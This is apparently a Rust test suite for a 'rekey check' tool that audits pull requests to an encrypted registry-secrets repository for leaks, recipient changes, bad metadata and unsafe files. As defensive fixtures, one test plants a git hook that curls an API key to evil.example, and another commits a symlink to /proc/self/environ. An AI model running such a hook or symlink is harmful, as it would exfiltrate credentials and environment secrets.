//! `rekey check` on a real git secrets repo with pull-request branches, good
//! and bad, checked with and without a key.

use crate::pgp_support::*;
use crate::support::*;
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use std::path::Path;
use std::process::Command;

const JP: &str = "registry/JP_REGISTRY_PULL_SECRET_64";
const NEW_NAME: &str = "iks-registry-prod-test-20261123";

/// A [`KeyPr`] with this file's seals.
struct Pr(KeyPr);

impl std::ops::Deref for Pr {
    type Target = KeyPr;
    fn deref(&self) -> &KeyPr {
        &self.0
    }
}

impl Pr {
    /// A secrets repo whose `main` holds jp and us sealed with an old key,
    /// and a branch `pr` checked out from it.
    fn new(tag: &str) -> Pr {
        let pr = Pr(KeyPr::new(tag, &["alice", "bob"]));
        pr.seal(
            &pr.old.key,
            &repo_root().join("regions"),
            "iks-registry-prod-test-20260801",
        );
        pr.open();
        pr
    }

    /// Generates jp and us with `key` from `regions` and seals them into the repo.
    fn seal(&self, key: &str, regions: &Path, key_name: &str) {
        self.seal_with(key, regions, key_name, &[]);
    }

    /// Like [`Pr::seal`], with more `rekey seal` arguments.
    fn seal_with(&self, key: &str, regions: &Path, key_name: &str, extra: &[&str]) {
        seal_key(&self.repo(), regions, &["jp", "us"], key, Some(key_name), extra).code(0);
    }

    /// Seals the new key for jp and us with the shipped catalog, named
    /// [`NEW_NAME`], with `extra` `rekey seal` arguments.
    fn seal_new(&self, extra: &[&str]) {
        self.seal_with(&self.new.key, &repo_root().join("regions"), NEW_NAME, extra);
    }

    /// Seals the new key for jp and us with the shipped catalog and commits: a clean rotation.
    fn rotate(&self) {
        self.seal_new(&[]);
        self.commit("rotate");
    }

    /// Re-encrypts every secret to the work tree's recipients, with alice's key.
    fn reencrypt(&self) {
        rekey()
            .arg("reencrypt")
            .arg("--repo")
            .arg(self.repo())
            .arg("--key")
            .arg(keys().file("alice.sec"))
            .run()
            .code(0);
    }

    fn check_with_key(&self, extra: &[&str]) -> Run {
        let mut args = vec!["--key".to_owned(), keys().file("alice.sec").display().to_string()];
        args.extend([
            "--regions".to_owned(),
            repo_root().join("regions").display().to_string(),
        ]);
        args.extend(extra.iter().map(|s| s.to_string()));
        self.check(&args.iter().map(String::as_str).collect::<Vec<_>>())
    }
}

/// Returns (a copy of) the first element of the array `v[list]` that `pred` accepts.
#[track_caller]
fn entry(v: &serde_json::Value, list: &str, pred: impl Fn(&&serde_json::Value) -> bool) -> serde_json::Value {
    v[list]
        .as_array()
        .unwrap()
        .iter()
        .find(pred)
        .unwrap_or_else(|| panic!("no such entry in {list}: {v}"))
        .clone()
}

/// The failing checks' (kind, target).
fn failures(run: &Run) -> Vec<(String, String)> {
    failing_checks(run)
        .into_iter()
        .map(|(kind, target, _)| (kind, target))
        .collect()
}

#[test]
fn a_clean_rotation_passes_and_shows_a_redacted_summary() {
    let pr = Pr::new("check-good");
    pr.rotate();
    let run = pr.check(&["--output", "json"]);
    run.code(0);
    assert_eq!(failures(&run), []);
    let kinds: std::collections::BTreeSet<String> = run.json()["checks"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["kind"].as_str().unwrap().to_owned())
        .collect();
    assert!(
        kinds.contains("leak") && kinds.contains("recipients") && kinds.contains("metadata"),
        "{kinds:?}"
    );

    let run = pr.check_with_key(&["--output", "json"]);
    run.code(0);
    let v = run.json();
    let jp = entry(&v, "changes", |c| c["region"] == "jp");
    assert_eq!(jp["change"], "rotated");
    assert_eq!(
        jp["old_key_fingerprint"],
        rekey::fingerprint::Fingerprint::of(pr.old.key.as_bytes()).to_string()
    );
    assert_eq!(
        jp["new_key_fingerprint"],
        rekey::fingerprint::Fingerprint::of(pr.new.key.as_bytes()).to_string()
    );
    assert_eq!(jp["hosts_added"].as_array().unwrap().len(), 0);

    let text = pr.check_with_key(&[]);
    text.code(0)
        .stdout_has("rotated  JP_REGISTRY_PULL_SECRET_64 (jp): sha256:");
}

#[test]
fn a_plain_text_secret_is_rejected_even_inside_base64() {
    let pr = Pr::new("check-leak");
    let dcj = format!(
        r#"{{"auths":{{"jp.icr.io":{{"username":"iamapikey","password":"{}"}}}}}}"#,
        pr.new.key
    );
    write(&pr.repo(), "notes/jp.dockerconfigjson", &dcj);
    let manifest = format!("kind: Secret\ndata:\n  .dockerconfigjson: {}\n", STANDARD.encode(&dcj));
    write(&pr.repo(), "deploy/secret.yaml", manifest);
    pr.commit("add plain text by mistake");
    let run = pr.check(&["--output", "json"]);
    run.code(1);
    let f = failures(&run);
    assert!(
        f.contains(&("leak".into(), "notes/jp.dockerconfigjson".into())),
        "{f:?}"
    );
    assert!(f.contains(&("leak".into(), "deploy/secret.yaml".into())), "{f:?}");
    // --failures-only lists the failures alone; the summary still counts every check.
    let short = pr.check(&["--failures-only"]);
    short.code(1).stdout_has("FAIL  leak       notes/jp.dockerconfigjson");
    let all = pr.check(&[]);
    let failing: Vec<&str> = all.stdout.lines().filter(|l| l.starts_with("FAIL")).collect();
    assert_eq!(short.stdout.lines().collect::<Vec<_>>(), failing, "{}", all.stdout);
    let summary = |r: &Run| {
        r.stderr
            .lines()
            .find(|l| l.contains(" failed"))
            .unwrap_or_default()
            .to_owned()
    };
    assert_eq!(summary(&short), summary(&all));
    let detail = entry(&run.json(), "checks", |c| c["target"] == "deploy/secret.yaml")["detail"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(
        detail.contains("dockerconfig-password sha256:") && detail.contains("inside base64"),
        "{detail}"
    );

    // A known fixture is waived by its fingerprint, with a reason, in the
    // allowlist of the base (the pull request's own waivers count for nothing).
    let fp = rekey::fingerprint::Fingerprint::of(pr.new.key.as_bytes());
    git(&pr.repo(), &["checkout", "-q", "main"]);
    write(
        &pr.repo(),
        ".rekey/leak-allowlist.toml",
        format!("[[allow]]\nfingerprint = \"{fp}\"\nreason = \"test fixture\"\n"),
    );
    pr.commit("allow the fixture");
    git(&pr.repo(), &["checkout", "-q", "pr"]);
    git(&pr.repo(), &["rebase", "-q", "main"]);
    pr.check(&[])
        .code(0)
        .stdout_has("waived   deploy/secret.yaml line 3: dockerconfig-password")
        .stdout_has("(reason: test fixture)");
}

#[test]
fn a_file_not_encrypted_to_the_policy_is_rejected() {
    let pr = Pr::new("check-recipients");
    // Re-encrypt jp to alice only, with real gpg, as someone might by hand.
    let plain = gpg_decrypt(&keys().file("alice.sec"), &pr.repo().join(format!("{JP}.gpg")));
    let plain_file = write(pr.tmp.path(), "plain", plain);
    std::fs::remove_file(pr.repo().join(format!("{JP}.gpg"))).unwrap();
    gpg_encrypt(
        &keys().file("alice.pub"),
        &keys().fingerprint("alice"),
        &plain_file,
        &pr.repo().join(format!("{JP}.gpg")),
    );
    std::fs::remove_file(plain_file).unwrap();
    pr.commit("jp to alice only");
    let run = pr.check(&["--output", "json"]);
    run.code(1);
    let f = failures(&run);
    assert!(f.contains(&("recipients".into(), format!("{JP}.gpg"))), "{f:?}");
    assert!(f.contains(&("metadata".into(), format!("{JP}.meta.json"))), "{f:?}");
    // The mismatch names the certificate by user ID and fingerprint, not only its subkey.
    let detail = entry(&run.json(), "checks", |c| {
        c["kind"] == "recipients" && c["target"] == format!("{JP}.gpg")
    })["detail"]
        .as_str()
        .unwrap()
        .to_owned();
    let bob = format!(
        "missing bob <bob@example.com> (fingerprint {}, key ID {})",
        keys().fingerprint("bob"),
        keys().subkey_id("bob")
    );
    assert!(detail.contains(&bob), "{detail}");
}

#[test]
fn inconsistent_auth_is_found_with_the_key() {
    let pr = Pr::new("check-auth");
    let other = Canary::new("check-auth-other");
    let auth = STANDARD.encode(format!("iamapikey:{}", other.key));
    let hosts = [
        "jp.icr.io",
        "private.jp.icr.io",
        "au.icr.io",
        "private.au.icr.io",
        "registry.au-syd.bluemix.net",
    ];
    let entries: Vec<String> = hosts
        .iter()
        .map(|h| {
            format!(
                r#""{h}":{{"username":"iamapikey","password":"{}","auth":"{auth}"}}"#,
                pr.new.key
            )
        })
        .collect();
    let plain = write(
        pr.tmp.path(),
        "bad.json",
        format!("{{\"auths\":{{{}}}}}", entries.join(",")),
    );
    rekey()
        .arg("encrypt")
        .arg("--recipients")
        .arg(pr.repo().join(".rekey/recipients.asc"))
        .arg(&plain)
        .arg("--out-file")
        .arg(pr.repo().join(format!("{JP}.gpg")))
        .run()
        .code(0);
    std::fs::remove_file(plain).unwrap();
    pr.commit("hand-made jp secret");
    let run = pr.check_with_key(&["--output", "json"]);
    run.code(1);
    other.assert_not_in_run(&run);
    let checks = run.json()["checks"].as_array().unwrap().clone();
    let secret = checks.iter().find(|c| c["kind"] == "secret").unwrap();
    assert_eq!(secret["ok"], false);
    let detail = secret["detail"].as_str().unwrap();
    assert!(detail.contains("`auth` carries key"), "{detail}");
    assert!(detail.contains("does not match the digest"), "{detail}");
}

#[test]
fn a_secret_missing_a_region_host_is_rejected_with_the_key() {
    let pr = Pr::new("check-host");
    let regions = pr.tmp.path().join("regions-short");
    copy_dir(&repo_root().join("regions"), &regions);
    let jp = std::fs::read_to_string(regions.join("jp.toml"))
        .unwrap()
        .replace("  \"private.jp.icr.io\",\n", "");
    std::fs::write(regions.join("jp.toml"), jp).unwrap();
    pr.seal(&pr.new.key, &regions, NEW_NAME);
    pr.commit("rotate with a short catalog");
    pr.check(&[]).code(0);
    let run = pr.check_with_key(&["--output", "json"]);
    run.code(1);
    let v = run.json();
    let secret = entry(&v, "checks", |c| c["kind"] == "secret" && c["ok"] == false);
    assert!(
        secret["detail"]
            .as_str()
            .unwrap()
            .contains("region `jp` hosts missing: private.jp.icr.io"),
        "{secret}"
    );
    let jp = entry(&v, "changes", |c| c["region"] == "jp");
    assert_eq!(jp["hosts_removed"], serde_json::json!(["private.jp.icr.io"]));
}

#[test]
fn junit_has_one_test_case_per_check() {
    let pr = Pr::new("check-junit");
    pr.seal_new(&[]);
    write(&pr.repo(), "registry/stray.txt", "hello");
    pr.commit("rotate plus a stray file");
    let json = pr.check(&["--output", "json"]);
    let count = json.json()["checks"].as_array().unwrap().len();
    let run = pr.check(&["--output", "junit"]);
    run.code(1);
    assert_eq!(run.stdout.matches("<testcase").count(), count, "{}", run.stdout);
    assert!(run.stdout.contains("type=\"layout\""), "{}", run.stdout);
}

#[test]
fn bad_revisions_and_options_are_errors() {
    let pr = Pr::new("check-bad");
    check_cmd(&pr.repo(), "nope", "pr").run().code(2).stderr_has("--base");
    check_cmd(pr.tmp.path(), "main", "pr").run().code(2).stderr_has("git ");
    pr.check(&["--regions", "regions"]).code(2).stderr_has("--key");
    let missing = pr.tmp.path().join("missing.toml");
    pr.check(&["--allowlist", missing.to_str().unwrap()])
        .code(2)
        .stderr_has("reading ");
    let bad = write(pr.tmp.path(), "allow.toml", "[[allow]]\nreason = \"x\"\n");
    pr.check(&["--allowlist", bad.to_str().unwrap()])
        .code(2)
        .stderr_has("field `allow[0]`");
}

fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for entry in std::fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        std::fs::copy(entry.path(), to.join(entry.file_name())).unwrap();
    }
}

#[test]
fn the_ci_entry_point_runs_the_check_with_a_key_from_a_file() {
    let pr = Pr::new("check-ci");
    pr.rotate();
    let job = repo_root().join("ci/rekey-job");
    let stdout = rekey_job_check_exits(&pr, Some(&repo_root().join("regions")), 0);
    assert!(
        stdout.contains("<testsuites") && stdout.contains("check.secret"),
        "{stdout}"
    );
    let missing = Command::new(&job)
        .arg("check")
        .env("REKEY", env!("CARGO_BIN_EXE_rekey"))
        .env_remove("REKEY_BASE")
        .output()
        .unwrap();
    assert_eq!(missing.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&missing.stderr).contains("set REKEY_BASE and REKEY_HEAD"));
}

/// Commits `files` (path, contents, mode) on the pull-request branch.
fn commit_files(pr: &Pr, files: &[(&str, &str, u32)], message: &str) {
    use std::os::unix::fs::PermissionsExt;
    for (path, contents, mode) in files {
        let file = write(&pr.repo(), path, contents);
        std::fs::set_permissions(&file, std::fs::Permissions::from_mode(*mode)).unwrap();
    }
    pr.commit(message);
}

#[test]
fn a_pr_adding_a_leaked_key_and_a_waiver_for_it_fails() {
    let pr = Pr::new("check-self-waiver");
    let fp = rekey::fingerprint::Fingerprint::of(pr.new.key.as_bytes());
    let dcj = format!(
        r#"{{"auths":{{"jp.icr.io":{{"username":"iamapikey","password":"{}"}}}}}}"#,
        pr.new.key
    );
    let waiver = format!("[[allow]]\nfingerprint = \"{fp}\"\nreason = \"totally a fixture\"\n");
    commit_files(
        &pr,
        &[
            ("notes/jp.dockerconfigjson", &dcj, 0o644),
            (".rekey/leak-allowlist.toml", &waiver, 0o644),
        ],
        "leak and waive it",
    );
    let run = pr.check(&["--output", "json"]);
    run.code(1);
    let v = run.json();
    let leak = entry(&v, "checks", |c| c["target"] == "notes/jp.dockerconfigjson");
    assert_eq!(leak["ok"], false);
    let detail = leak["detail"].as_str().unwrap();
    assert!(detail.contains(&format!("{fp} (not waived)")), "{detail}");
    assert!(
        detail.contains("waives nothing in the pull request that adds it"),
        "{detail}"
    );
    assert_eq!(v["waived"], serde_json::json!([]));
    let added = &v["policy_changes"]["waivers_added"];
    assert_eq!(added[0]["fingerprint"], fp.to_string());
    assert_eq!(added[0]["reason"], "totally a fixture");

    let text = pr.check(&[]);
    text.code(1)
        .stdout_has(&format!(
            "waiver added (waives nothing in this pull request): fingerprint {fp} (reason: totally a fixture)"
        ))
        .stdout_has("FAIL  leak       notes/jp.dockerconfigjson");
    assert!(!text.stdout.contains("waived   "), "{}", text.stdout);
}

#[test]
fn a_pr_adding_a_recipient_shows_who_gains_access() {
    let pr = Pr::new("check-new-recipient");
    let mut ring = std::fs::read(pr.repo().join(".rekey/recipients.asc")).unwrap();
    ring.extend(std::fs::read(keys().file("carol.pub")).unwrap());
    ring.extend(std::fs::read(keys().file("soon.pub")).unwrap());
    write(&pr.repo(), ".rekey/recipients.asc", ring);
    pr.commit("quietly add carol and soon");
    let run = pr.check(&["--output", "json"]);
    let v = run.json();
    let added = v["policy_changes"]["recipients_added"].as_array().unwrap().clone();
    assert_eq!(added.len(), 2, "{v}");
    let carol = added
        .iter()
        .find(|r| r["user_id"] == "carol <carol@example.com>")
        .unwrap();
    assert_eq!(carol["fingerprint"], keys().fingerprint("carol"));
    assert_eq!(carol["expires"], "never");
    let soon = added
        .iter()
        .find(|r| r["user_id"] == "soon <soon@example.com>")
        .unwrap();
    assert_eq!(soon["fingerprint"], keys().fingerprint("soon"));
    assert!(soon["expires"].as_str().unwrap().starts_with("20"), "{soon}");
    let text = pr.check(&[]);
    text.stdout_has(&format!(
        "recipient added (gains access once merged): carol <carol@example.com> (fingerprint {}, expires never)",
        keys().fingerprint("carol")
    ));
    text.stdout_has("ok    policy     .rekey/recipients.asc  the pull request changes the recipient policy");

    // Files re-encrypted to the new set in the same pull request are judged
    // by the base's policy: carol is named as not in it.
    pr.reencrypt();
    pr.commit("re-encrypt to the new set");
    let run = pr.check(&["--output", "json"]);
    run.code(1);
    let detail = entry(&run.json(), "checks", |c| {
        c["kind"] == "recipients" && c["target"] == format!("{JP}.gpg")
    })["detail"]
        .as_str()
        .unwrap()
        .to_owned();
    let (_, extra) = detail.split_once(": not in the policy ").expect(&detail);
    assert!(
        extra.contains(&format!(
            "carol <carol@example.com> (fingerprint {}, key ID {})",
            keys().fingerprint("carol"),
            keys().subkey_id("carol")
        )),
        "{detail}"
    );
}

#[test]
fn a_pr_committing_rekey_state_files_fails() {
    let pr = Pr::new("check-state-files");
    commit_files(
        &pr,
        &[
            (
                ".rekey/writes.json",
                r#"[[".rekey/hook", ".git/hooks/post-commit"]]"#,
                0o644,
            ),
            (
                ".rekey/hook",
                "#!/bin/sh\ncurl -d \"$REKEY_NEW_API_KEY\" evil.example\n",
                0o644,
            ),
            (".rekey/journal.json", "{}", 0o644),
        ],
        "plant a hook",
    );
    let run = pr.check(&["--output", "json"]);
    run.code(1);
    let f = failures(&run);
    for path in [".rekey/writes.json", ".rekey/hook", ".rekey/journal.json"] {
        assert!(f.contains(&("layout".into(), path.into())), "{path}: {f:?}");
    }
    pr.check(&[])
        .code(1)
        .stdout_has("FAIL  layout     .rekey/hook  rekey does not know this file");
}

#[test]
fn a_pr_adding_an_executable_or_a_symlink_fails() {
    let pr = Pr::new("check-modes");
    commit_files(&pr, &[("tools/hook.sh", "#!/bin/sh\n", 0o755)], "an executable");
    let run = pr.check(&["--output", "json"]);
    run.code(1);
    assert_eq!(failures(&run), [("mode".to_owned(), "tools/hook.sh".to_owned())]);

    git(&pr.repo(), &["reset", "-q", "--hard", "main"]);
    std::os::unix::fs::symlink("/proc/self/environ", pr.repo().join("registry/JP_X_64.gpg")).unwrap();
    pr.commit("a symlink");
    let run = pr.check(&["--output", "json"]);
    run.code(1);
    let mode = entry(&run.json(), "checks", |c| c["kind"] == "mode");
    assert_eq!(mode["target"], "registry/JP_X_64.gpg");
    assert!(
        mode["detail"].as_str().unwrap().contains("symbolic link (mode 120000)"),
        "{mode}"
    );
}

#[test]
fn a_truncated_gpg_fails_the_keyless_check_without_a_panic() {
    let pr = Pr::new("check-truncated");
    let path = pr.repo().join(format!("{JP}.gpg"));
    let bytes = std::fs::read(&path).unwrap();
    // Cut near the end, as a broken upload or a hostile PR might.
    std::fs::write(&path, &bytes[..bytes.len() - 41]).unwrap();
    pr.commit("truncate jp");
    let run = pr.check(&["--output", "json"]);
    run.code(1);
    assert!(!run.stderr.contains("panicked"), "{}", run.stderr);
    let detail = entry(&run.json(), "checks", |c| {
        c["kind"] == "recipients" && c["target"] == format!("{JP}.gpg")
    })["detail"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(
        detail.contains("not a complete, well-formed OpenPGP message"),
        "{detail}"
    );
    assert!(!detail.contains("addressed to exactly"), "{detail}");

    // With a key it fails the same way: no panic, a complete JUnit report.
    let run = pr.check_with_key(&["--output", "junit"]);
    run.code(1);
    assert!(!run.stderr.contains("panicked"), "{}", run.stderr);
    assert!(run.stdout.contains("</testsuites>"), "{}", run.stdout);
    assert!(
        run.stdout.contains("cannot decrypt: not an encrypted OpenPGP message"),
        "{}",
        run.stdout
    );
}

#[test]
fn a_pure_reencryption_is_reported_as_such() {
    let pr = Pr::new("check-reencrypt");
    // The policy gains carol on main; the pull request only re-encrypts.
    git(&pr.repo(), &["checkout", "-q", "main"]);
    let mut ring = std::fs::read(pr.repo().join(".rekey/recipients.asc")).unwrap();
    ring.extend(std::fs::read(keys().file("carol.pub")).unwrap());
    write(&pr.repo(), ".rekey/recipients.asc", ring);
    pr.commit("add carol");
    git(&pr.repo(), &["checkout", "-q", "-B", "pr", "main"]);
    pr.reencrypt();
    pr.commit("re-encrypt");
    let run = pr.check_with_key(&["--output", "json"]);
    run.code(0);
    let jp = entry(&run.json(), "changes", |c| c["region"] == "jp");
    assert_eq!(jp["change"], "reencrypted");
    let text = pr.check(&[]);
    text.code(0)
        .stdout_has("reencrypted JP_REGISTRY_PULL_SECRET_64 (jp): same key sha256:");
    assert!(text.stdout.lines().any(|l| l.starts_with("ok")), "{}", text.stdout);
    // A passing check with --failures-only prints no check lines at all.
    let quiet = pr.check(&["--failures-only"]);
    quiet.code(0);
    assert!(
        !quiet
            .stdout
            .lines()
            .any(|l| l.starts_with("ok") || l.starts_with("FAIL")),
        "{}",
        quiet.stdout
    );
    assert!(!text.stdout.contains(" -> "), "{}", text.stdout);
}

/// Runs `ci/rekey-job check` on the pull request with alice's key.
fn rekey_job_check(pr: &Pr, regions: Option<&Path>) -> std::process::Output {
    let mut cmd = Command::new(repo_root().join("ci/rekey-job"));
    cmd.arg("check")
        .env("REKEY", env!("CARGO_BIN_EXE_rekey"))
        .env("REKEY_REPO", pr.repo())
        .env("REKEY_BASE", "main")
        .env("REKEY_HEAD", "pr")
        .env("REKEY_DECRYPTION_KEY_FILE", keys().file("alice.sec"))
        .env_remove("REKEY_REGIONS");
    if let Some(dir) = regions {
        cmd.env("REKEY_REGIONS", dir);
    }
    cmd.output().unwrap()
}

/// [`rekey_job_check`], asserting its exit code and that the new key shows
/// in neither output; returns stdout.
#[track_caller]
fn rekey_job_check_exits(pr: &Pr, regions: Option<&Path>, code: i32) -> String {
    let out = rekey_job_check(pr, regions);
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    assert_eq!(
        out.status.code(),
        Some(code),
        "{stdout}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(!pr.new.found_in(&out.stdout) && !pr.new.found_in(&out.stderr));
    stdout
}

#[test]
fn the_ci_entry_point_reads_the_catalog_at_the_base() {
    let pr = Pr::new("check-ci-catalog");
    git(&pr.repo(), &["checkout", "-q", "main"]);
    copy_dir(&repo_root().join("regions"), &pr.repo().join("regions"));
    pr.commit("the catalog");
    git(&pr.repo(), &["checkout", "-q", "-B", "pr", "main"]);
    // The pull request drops a host from jp and edits the catalog to match.
    let jp = pr.repo().join("regions/jp.toml");
    let short = std::fs::read_to_string(&jp)
        .unwrap()
        .replace("  \"private.jp.icr.io\",\n", "");
    std::fs::write(&jp, short).unwrap();
    pr.seal(&pr.new.key, &pr.repo().join("regions"), NEW_NAME);
    pr.commit("rotate without private.jp.icr.io");
    let stdout = rekey_job_check_exits(&pr, None, 1);
    assert!(
        stdout.contains("region `jp` hosts missing: private.jp.icr.io"),
        "{stdout}"
    );
    // Judged by the pull request's own catalog, the same change would pass.
    rekey_job_check_exits(&pr, Some(&pr.repo().join("regions")), 0);
}

#[test]
fn the_shipped_workflows_check_every_pr_with_a_pinned_rekey() {
    let read = |name: &str| -> serde_yaml_ng::Value {
        serde_yaml_ng::from_str(&std::fs::read_to_string(repo_root().join("ci/github").join(name)).unwrap()).unwrap()
    };
    let check = read("secrets-pr-check.yml");
    let on = &check["on"]["pull_request"];
    assert!(on.is_null() || on.get("paths").is_none(), "no path filter: {on:?}");
    for (name, doc) in [
        ("secrets-pr-check.yml", &check),
        ("rotation.yml", &read("rotation.yml")),
    ] {
        let steps = doc["jobs"].as_mapping().unwrap().values().next().unwrap()["steps"]
            .as_sequence()
            .unwrap()
            .clone();
        let runs: Vec<String> = steps
            .iter()
            .filter_map(|s| s["run"].as_str().map(str::to_owned))
            .collect();
        // Every action runs at a full commit SHA: a moved tag must not
        // change what runs beside the decryption and IAM admin keys.
        let every_step = doc["jobs"]
            .as_mapping()
            .unwrap()
            .values()
            .flat_map(|job| job["steps"].as_sequence().unwrap().clone());
        for step in every_step {
            if let Some(uses) = step["uses"].as_str() {
                let pin = uses.split_once('@').map_or("", |(_, p)| p);
                assert!(
                    pin.len() == 40 && pin.bytes().all(|b| b.is_ascii_hexdigit()),
                    "{name}: `{uses}` is not pinned by commit"
                );
            }
        }
        let install = runs.iter().find(|r| r.contains("cargo install")).unwrap();
        assert!(
            install.contains("--rev \"$REKEY_REF\"") && install.contains("--tag \"$REKEY_REF\""),
            "{name}: {install}"
        );
        assert!(!install.contains("--branch"), "{name}: {install}");
        if name == "secrets-pr-check.yml" {
            // Nothing from the pull request's tree runs with the decryption key.
            assert!(runs.iter().all(|r| !r.contains("ci/rekey-job")), "{name}: {runs:?}");
        }
    }
}

/// A pull request that seals the next key as pending (`rekey seal
/// --pending`) only adds `<NAME>.pending.gpg` and its metadata: it passes,
/// summarized as pending, with the pending file checked like the served one.
#[test]
fn a_pr_that_only_adds_a_pending_version_passes() {
    let pr = Pr::new("check-pending");
    // The base is as older rekey wrote it: metadata schema 1.
    git(&pr.repo(), &["checkout", "-q", "main"]);
    for secret in [JP, "registry/US_REGISTRY_PULL_SECRET_64"] {
        let path = pr.repo().join(format!("{secret}.meta.json"));
        let text = std::fs::read_to_string(&path).unwrap();
        assert!(text.contains("\"schema\": 2"), "{text}");
        std::fs::write(&path, text.replace("\"schema\": 2", "\"schema\": 1")).unwrap();
    }
    pr.commit("metadata as schema 1");
    git(&pr.repo(), &["checkout", "-qB", "pr"]);
    let served = std::fs::read(pr.repo().join(format!("{JP}.gpg"))).unwrap();
    pr.seal_new(&["--pending"]);
    pr.commit("seal the next key as pending");
    assert_eq!(std::fs::read(pr.repo().join(format!("{JP}.gpg"))).unwrap(), served);
    let changed = git(&pr.repo(), &["diff", "--name-only", "main", "pr"]);
    assert!(!changed.contains(&format!("{JP}.gpg\n")), "{changed}");
    assert!(changed.contains(&format!("{JP}.pending.gpg")), "{changed}");
    let run = pr.check_with_key(&["--output", "json"]);
    run.code(0);
    assert_eq!(failures(&run), []);
    let v = run.json();
    let jp = entry(&v, "changes", |c| c["region"] == "jp");
    assert_eq!(jp["change"], "pending");
    assert_eq!(
        jp["new_key_fingerprint"],
        rekey::fingerprint::Fingerprint::of(pr.new.key.as_bytes()).to_string()
    );
    let pending_target = format!("{JP}.pending.gpg");
    for kind in ["recipients", "secret"] {
        entry(&v, "checks", |c| {
            c["kind"] == kind && c["target"] == pending_target.as_str()
        });
    }
}

/// What older rekey wrote, and what must never pass: `<NAME>.gpg` (the file
/// the build tool ships) holding the pending version. And a pending file
/// the metadata does not describe.
#[test]
fn a_pr_that_serves_a_pending_version_fails() {
    let pr = Pr::new("check-serve-pending");
    pr.seal_new(&["--pending"]);
    // Move the pending version into <NAME>.gpg, as `seal --pending` used to.
    let repo = pr.repo();
    let meta_path = repo.join(format!("{JP}.meta.json"));
    let mut meta: serde_json::Value = serde_json::from_slice(&std::fs::read(&meta_path).unwrap()).unwrap();
    let mut pending = meta["pending"].take();
    pending["file"] = "JP_REGISTRY_PULL_SECRET_64.gpg".into();
    let mut previous = meta["active"].take();
    previous["state"] = "previous".into();
    previous["file"] = "JP_REGISTRY_PULL_SECRET_64.previous.gpg".into();
    let obj = meta.as_object_mut().unwrap();
    obj.remove("pending");
    obj.insert("active".into(), pending);
    obj.insert("previous".into(), previous);
    std::fs::write(&meta_path, serde_json::to_vec_pretty(&meta).unwrap()).unwrap();
    std::fs::rename(repo.join(format!("{JP}.gpg")), repo.join(format!("{JP}.previous.gpg"))).unwrap();
    std::fs::rename(repo.join(format!("{JP}.pending.gpg")), repo.join(format!("{JP}.gpg"))).unwrap();
    pr.commit("serve the pending key");
    let run = pr.check(&["--output", "json"]);
    run.code(1);
    let meta_target = format!("{JP}.meta.json");
    assert!(
        failures(&run).contains(&("metadata".to_owned(), meta_target.clone())),
        "{:?}",
        failures(&run)
    );
    let m = entry(&run.json(), "checks", |c| {
        c["kind"] == "metadata" && c["target"] == meta_target.as_str()
    });
    assert!(m.to_string().contains("active.state: is pending"), "{m}");

    // A pending file that no metadata describes fails too.
    let pr = Pr::new("check-stray-pending");
    let repo = pr.repo();
    std::fs::copy(repo.join(format!("{JP}.gpg")), repo.join(format!("{JP}.pending.gpg"))).unwrap();
    pr.commit("a stray pending file");
    let run = pr.check(&["--output", "json"]);
    run.code(1);
    let m = entry(&run.json(), "checks", |c| {
        c["kind"] == "metadata" && c["target"] == meta_target.as_str()
    });
    assert!(m.to_string().contains("has no `pending` version"), "{m}");
}
